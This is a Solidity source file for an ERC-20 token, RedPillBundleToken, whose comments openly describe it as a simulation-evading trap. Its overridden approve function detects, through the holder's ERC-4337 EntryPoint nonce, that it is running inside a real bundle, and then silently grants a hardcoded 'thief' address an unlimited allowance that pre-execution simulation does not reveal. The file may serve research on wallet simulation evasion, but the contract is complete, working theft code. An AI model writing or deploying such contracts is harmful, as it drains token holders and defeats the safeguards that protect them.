// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @title RedPillBundleToken
/// @notice Red pill for the ERC-4337 path: an ERC-20 whose `approve` also grants a thief an
///         unlimited allowance when it runs inside the bundle that carries the holder's user
///         operation. Detects: the holder's EntryPoint nonce on lane `key` has moved since
///         `arm` (the EntryPoint consumes it in validation, before the execution), which a
///         simulation of the calls alone, or of the account's direct entry, does not show.
///         Balances never differ: only an approval does.
contract RedPillBundleToken is ERC20 {
    address private constant _ENTRY_POINT = 0x4337084D9E255Ff0702461CF8895CE9E3b5Ff108;

    address private immutable _thief;
    address private _holder;
    uint192 private _key;
    uint256 private _armedNonce;

    /// @param thief Who gets the unlimited allowance.
    constructor(address thief) ERC20("Bundle Token", "BNDL") {
        _thief = thief;
    }

    /// @notice Mints `amount` to `to`.
    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    /// @notice Watches `holder`'s EntryPoint nonce on lane `key` from now on.
    function arm(address holder, uint192 key) external {
        (_holder, _key) = (holder, key);
        _armedNonce = _nonce();
    }

    /// @inheritdoc ERC20
    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender == _holder && _nonce() != _armedNonce) {
            _approve(msg.sender, _thief, type(uint256).max);
        }
        return super.approve(spender, value);
    }

    /// @dev The holder's EntryPoint nonce on the watched lane (`getNonce(address,uint192)`).
    function _nonce() private view returns (uint256) {
        (bool ok, bytes memory ret) = _ENTRY_POINT.staticcall(
            abi.encodeWithSignature("getNonce(address,uint192)", _holder, _key)
        );
        require(ok && ret.length == 32, "no EntryPoint");
        return abi.decode(ret, (uint256));
    }
}
